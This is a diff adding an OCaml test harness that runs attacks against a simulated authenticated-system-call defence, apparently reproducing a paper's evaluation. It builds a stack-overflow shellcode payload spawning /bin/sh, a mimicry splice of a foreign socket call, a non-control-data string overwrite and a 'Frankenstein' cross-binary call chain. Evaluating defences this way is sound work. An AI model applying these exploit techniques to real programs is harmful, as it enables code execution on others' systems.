@@ -1,0 +1,321 @@
+open Svm
+open Oskernel
+module Cmac = Asc_crypto.Cmac
+
+type outcome =
+  | Succeeded of string
+  | Blocked of string
+  | Crashed of string
+
+let pp_outcome ppf = function
+  | Succeeded e -> Format.fprintf ppf "SUCCEEDED (%s)" e
+  | Blocked r -> Format.fprintf ppf "BLOCKED (%s)" r
+  | Crashed r -> Format.fprintf ppf "CRASHED (%s)" r
+
+let key = Cmac.of_raw "attack-demo-key!"
+let personality = Personality.linux
+
+let num sem = Option.get (Personality.number_of personality sem)
+
+let compile src = Minic.Driver.compile_exn ~personality src
+
+let install ~program_id ~program img =
+  let options = { Asc_core.Installer.default_options with program_id } in
+  match Asc_core.Installer.install ~key ~personality ~options ~program img with
+  | Ok inst -> inst.Asc_core.Installer.image
+  | Error e -> failwith (Printf.sprintf "install %s: %s" program e)
+
+let victim_plain = lazy (compile Workloads.W_tools.victim)
+let victim_auth = lazy (install ~program_id:1 ~program:"victim" (Lazy.force victim_plain))
+let ls_plain = lazy (compile Workloads.W_tools.ls)
+let ls_auth = lazy (install ~program_id:2 ~program:"ls" (Lazy.force ls_plain))
+let sh_plain = lazy (compile Workloads.W_tools.sh)
+let sh_auth = lazy (install ~program_id:3 ~program:"sh" (Lazy.force sh_plain))
+
+(* ----- locating the stack buffer (attacker reconnaissance) ----- *)
+
+(* get_filename's frame: char buf[32] at fp-40 (below the out-param slot),
+   so the saved frame pointer sits at buf+40 and the return address at
+   buf+48. *)
+let ret_distance = 48
+
+let le64 v = String.init 8 (fun i -> Char.chr ((v lsr (8 * i)) land 0xff))
+
+(* The threat model grants the attacker simulators and debuggers: run the
+   victim on a marker payload whose smashed return address points into
+   zeroed memory (opcode 0 halts), freezing the machine with the buffer
+   intact, then scan memory for the marker. *)
+let probe_buffer_addr image =
+  let marker = "PROBE_MARKER_XYZQ" in
+  (* slots smashed on the way to the return address: the out parameter (must
+     stay a valid pointer or strcpy faults first) and the saved frame
+     pointer; the return address lands in zeroed memory (opcode 0 halts) *)
+  let payload =
+    marker
+    ^ String.make (32 - String.length marker) 'P'
+    ^ le64 0x100000 (* out param: scratch memory *)
+    ^ String.make 8 'P' (* saved fp *)
+    ^ le64 0x200000 (* return address: zeroed memory halts *)
+  in
+  let kernel = Kernel.create ~personality () in
+  let proc = Kernel.spawn kernel ~stdin:payload ~program:"victim" image in
+  ignore (Kernel.run kernel proc ~max_cycles:50_000_000);
+  let mem = proc.Process.machine.Machine.mem in
+  let n = Bytes.length mem in
+  let mlen = String.length marker in
+  let rec scan i =
+    if i + mlen > n then failwith "attacks: probe marker not found"
+    else if Bytes.sub_string mem i mlen = marker then i
+    else scan (i + 1)
+  in
+  (* the buffer lives on the stack, above the data sections *)
+  scan (n / 2)
+
+let check_no_newline payload what =
+  String.iteri
+    (fun i c ->
+      if c = '\n' then
+        failwith
+          (Printf.sprintf "attacks: %s payload contains a newline at byte %d; cannot be \
+                           delivered through read_line" what i))
+    payload
+
+let run_victim ~protected ~payload ?(patch = fun (_ : Machine.t) -> ()) () =
+  let kernel = Kernel.create ~personality () in
+  if protected then
+    Kernel.set_monitor kernel (Some (Asc_core.Checker.monitor ~kernel ~key ()));
+  kernel.Kernel.tracing <- true;
+  let ls = Lazy.force (if protected then ls_auth else ls_plain) in
+  let sh = Lazy.force (if protected then sh_auth else sh_plain) in
+  Kernel.install_binary kernel ~path:"/bin/ls" ls;
+  Kernel.install_binary kernel ~path:"/bin/sh" sh;
+  let image = Lazy.force (if protected then victim_auth else victim_plain) in
+  let proc = Kernel.spawn kernel ~stdin:payload ~program:"victim" image in
+  patch proc.Process.machine;
+  let stop = Kernel.run kernel proc ~max_cycles:100_000_000 in
+  (kernel, proc, stop)
+
+let classify ~goal (kernel, proc, stop) =
+  let out = Kernel.stdout_of proc in
+  match stop with
+  | Machine.Killed reason -> Blocked reason
+  | Machine.Halted _ | Machine.Faulted _ | Machine.Cycle_limit ->
+    (match goal kernel out with
+     | Some evidence -> Succeeded evidence
+     | None ->
+       (match stop with
+        | Machine.Faulted (_, pc) -> Crashed (Printf.sprintf "fault at 0x%x" pc)
+        | _ -> Crashed "goal not reached"))
+
+let contains hay needle =
+  let nh = String.length hay and nn = String.length needle in
+  let rec go i = i + nn <= nh && (String.sub hay i nn = needle || go (i + 1)) in
+  nn > 0 && go 0
+
+let pwned_goal _kernel out = if contains out "pwned shell" then Some "shell executed" else None
+
+(* ----- attack 1: classic shellcode injection ----- *)
+
+let shellcode ~protected =
+  let image = Lazy.force (if protected then victim_auth else victim_plain) in
+  let buf = probe_buffer_addr image in
+  (* shellcode: execve("/bin/sh") with the string carried in the payload *)
+  let code = Bytes.create 24 in
+  Isa.encode (Isa.Movi (1, buf + 24)) code ~pos:0;
+  Isa.encode (Isa.Movi (0, num Syscall.Execve)) code ~pos:8;
+  Isa.encode Isa.Sys code ~pos:16;
+  let payload =
+    Bytes.to_string code ^ "/bin/sh\000" (* at buf+24 *)
+    ^ le64 buf (* out param: self-copy keeps the payload intact *)
+    ^ String.make 8 'F' (* saved fp *)
+    ^ le64 buf (* return address -> shellcode *)
+  in
+  check_no_newline payload "shellcode";
+  classify ~goal:pwned_goal (run_victim ~protected ~payload ())
+
+(* ----- attack 2: mimicry via authenticated calls from another binary ----- *)
+
+(* Extract, from an installed image, the byte run of [movi...movi sys]
+   implementing one authenticated call site. *)
+let extract_auth_site image =
+  let text = Obj_file.text_section image in
+  let payload = Bytes.of_string text.Obj_file.sec_payload in
+  let slots = Bytes.length payload / Isa.instr_size in
+  let decode i = Isa.decode payload ~pos:(i * Isa.instr_size) in
+  let sites = ref [] in
+  for i = 0 to slots - 1 do
+    if decode i = Some Isa.Sys then begin
+      (* walk back over the contiguous movi run *)
+      let rec back j =
+        if j < 0 then 0
+        else
+          match decode j with
+          | Some (Isa.Movi _) -> back (j - 1)
+          | _ -> j + 1
+      in
+      let start = back (i - 1) in
+      if i - start >= 5 then
+        sites :=
+          ( text.Obj_file.sec_addr + (start * Isa.instr_size),
+            Bytes.sub_string payload (start * Isa.instr_size)
+              ((i - start + 1) * Isa.instr_size) )
+          :: !sites
+    end
+  done;
+  List.rev !sites
+
+let mimicry ~protected =
+  (* donor application: makes a socket call the victim never makes *)
+  let donor_src = "int main() { socket(1, 1, 0); return 0; }" in
+  let donor = install ~program_id:9 ~program:"donor" (compile donor_src) in
+  let image = Lazy.force (if protected then victim_auth else victim_plain) in
+  let buf = probe_buffer_addr image in
+  let socket_number = num Syscall.Socket in
+  (* pick the donor site that actually issues socket() *)
+  let is_socket_site bytes =
+    let b = Bytes.of_string bytes in
+    let rec scan i =
+      if i + Isa.instr_size > Bytes.length b then false
+      else
+        match Isa.decode b ~pos:i with
+        | Some (Isa.Movi (0, v)) when v = socket_number -> true
+        | _ -> scan (i + Isa.instr_size)
+    in
+    scan 0
+  in
+  let sites = List.filter (fun (_, bytes) -> is_socket_site bytes) (extract_auth_site donor) in
+  let usable =
+    List.filter_map
+      (fun (_, bytes) ->
+        (* splice after the return-address slot; ends with a halt *)
+        let halt = Bytes.create 8 in
+        Isa.encode Isa.Halt halt ~pos:0;
+        let payload =
+          String.make 32 'A'
+          ^ le64 buf (* out param: harmless self-copy *)
+          ^ String.make 8 'A' (* saved fp *)
+          ^ le64 (buf + ret_distance + 8) (* return into the spliced code *)
+          ^ bytes ^ Bytes.to_string halt
+        in
+        if String.contains payload '\n' then None else Some payload)
+      sites
+  in
+  match usable with
+  | [] -> failwith "attacks: no newline-free mimicry payload found"
+  | payload :: _ ->
+    let goal kernel _out =
+      let made_socket =
+        List.exists
+          (fun t -> t.Kernel.t_sem = Some Syscall.Socket && t.Kernel.t_number = socket_number)
+          (Kernel.trace kernel)
+      in
+      if made_socket then Some "foreign authenticated syscall executed" else None
+    in
+    classify ~goal (run_victim ~protected ~payload ())
+
+(* ----- attack 3: non-control data ----- *)
+
+(* "tried to replace the argument /bin/ls of the existing authenticated
+   execve system call with /bin/sh": a pure data overwrite — control flow
+   is never hijacked. We grant the attacker an arbitrary-write primitive
+   (e.g. a heap overflow) by patching the string in process memory. *)
+let non_control_data ~protected =
+  let patch (m : Machine.t) =
+    (* overwrite every occurrence of "/bin/ls" in writable+readable memory *)
+    let needle = "/bin/ls" in
+    let mem = m.Machine.mem in
+    let found = ref 0 in
+    for a = 0 to Bytes.length mem - String.length needle - 1 do
+      if Bytes.sub_string mem a (String.length needle) = needle then begin
+        Bytes.blit_string "/bin/sh" 0 mem a 7;
+        incr found
+      end
+    done;
+    if !found = 0 then failwith "attacks: /bin/ls not found in memory"
+  in
+  classify ~goal:pwned_goal (run_victim ~protected ~payload:"notes.txt\n" ~patch ())
+
+(* ----- §5.5: Frankenstein ----- *)
+
+let padding_src =
+  let buf = Buffer.create 20000 in
+  Buffer.add_string buf "int never = 0;\nint pad(int x) {\n";
+  for _ = 1 to 2500 do
+    Buffer.add_string buf "  x = x + 3;\n"
+  done;
+  Buffer.add_string buf "  return x;\n}\n";
+  Buffer.contents buf
+
+(* Application A: padded so that its call sites and .asc land far above
+   application B's whole image, letting the Frankenstein composition place
+   both binaries' fragments in one address space at their original
+   (MAC-bound) addresses. *)
+let app_a_src =
+  padding_src ^ "int main() { if (never) { pad(1); } socket(1, 1, 0); return 0; }"
+
+let app_b_src = "int main() { getpid(); time(0); return 0; }"
+
+let frankenstein ~cross =
+  let a_img = install ~program_id:21 ~program:"appA" (compile app_a_src) in
+  let b_img = install ~program_id:22 ~program:"appB" (compile app_b_src) in
+  let b_extent =
+    List.fold_left
+      (fun acc (s : Obj_file.section) -> max acc (s.sec_addr + s.sec_size))
+      0 b_img.Obj_file.sections
+  in
+  (* pick an A site above B's extent *)
+  let a_sites = List.filter (fun (addr, _) -> addr > b_extent) (extract_auth_site a_img) in
+  let a_site_addr, a_site_bytes =
+    match a_sites with
+    | s :: _ -> s
+    | [] -> failwith "attacks: padding failed to lift appA's sites above appB"
+  in
+  let kernel = Kernel.create ~personality () in
+  Kernel.set_monitor kernel (Some (Asc_core.Checker.monitor ~kernel ~key ()));
+  kernel.Kernel.tracing <- true;
+  let proc = Kernel.spawn kernel ~program:"frankenstein" b_img in
+  let m = proc.Process.machine in
+  (* splice A's authenticated site and A's high sections (rodata/.asc) *)
+  ignore (Machine.write_mem m ~addr:a_site_addr a_site_bytes);
+  let halt = Bytes.create 8 in
+  Isa.encode Isa.Halt halt ~pos:0;
+  ignore
+    (Machine.write_mem m
+       ~addr:(a_site_addr + String.length a_site_bytes)
+       (Bytes.to_string halt));
+  List.iter
+    (fun (s : Obj_file.section) ->
+      if s.sec_addr > b_extent && s.sec_kind <> Obj_file.Text then
+        ignore (Machine.write_mem m ~addr:s.sec_addr s.sec_payload))
+    a_img.Obj_file.sections;
+  if cross then begin
+    (* after B executes its getpid call, divert into A's spliced call *)
+    let text = Obj_file.text_section b_img in
+    let payload = Bytes.of_string text.Obj_file.sec_payload in
+    let slots = Bytes.length payload / Isa.instr_size in
+    let getpid_number = num Syscall.Getpid in
+    let rec getpid_sys i saw_getpid =
+      if i >= slots then failwith "attacks: appB getpid site not found"
+      else
+        match Isa.decode payload ~pos:(i * Isa.instr_size) with
+        | Some (Isa.Movi (0, v)) when v = getpid_number -> getpid_sys (i + 1) true
+        | Some Isa.Sys when saw_getpid -> i
+        | Some (Isa.Movi _) -> getpid_sys (i + 1) saw_getpid
+        | _ -> getpid_sys (i + 1) false
+    in
+    let sys_slot = getpid_sys 0 false in
+    let jmp = Bytes.create 8 in
+    Isa.encode (Isa.Jmp a_site_addr) jmp ~pos:0;
+    ignore
+      (Machine.write_mem m
+         ~addr:(text.Obj_file.sec_addr + ((sys_slot + 1) * Isa.instr_size))
+         (Bytes.to_string jmp))
+  end;
+  let stop = Kernel.run kernel proc ~max_cycles:100_000_000 in
+  match stop with
+  | Machine.Killed reason -> Blocked reason
+  | Machine.Halted _ ->
+    if cross then Crashed "cross-application call was not blocked"
+    else Succeeded "single-application chain permitted"
+  | Machine.Faulted (_, pc) -> Crashed (Printf.sprintf "fault at 0x%x" pc)
+  | Machine.Cycle_limit -> Crashed "cycle limit"
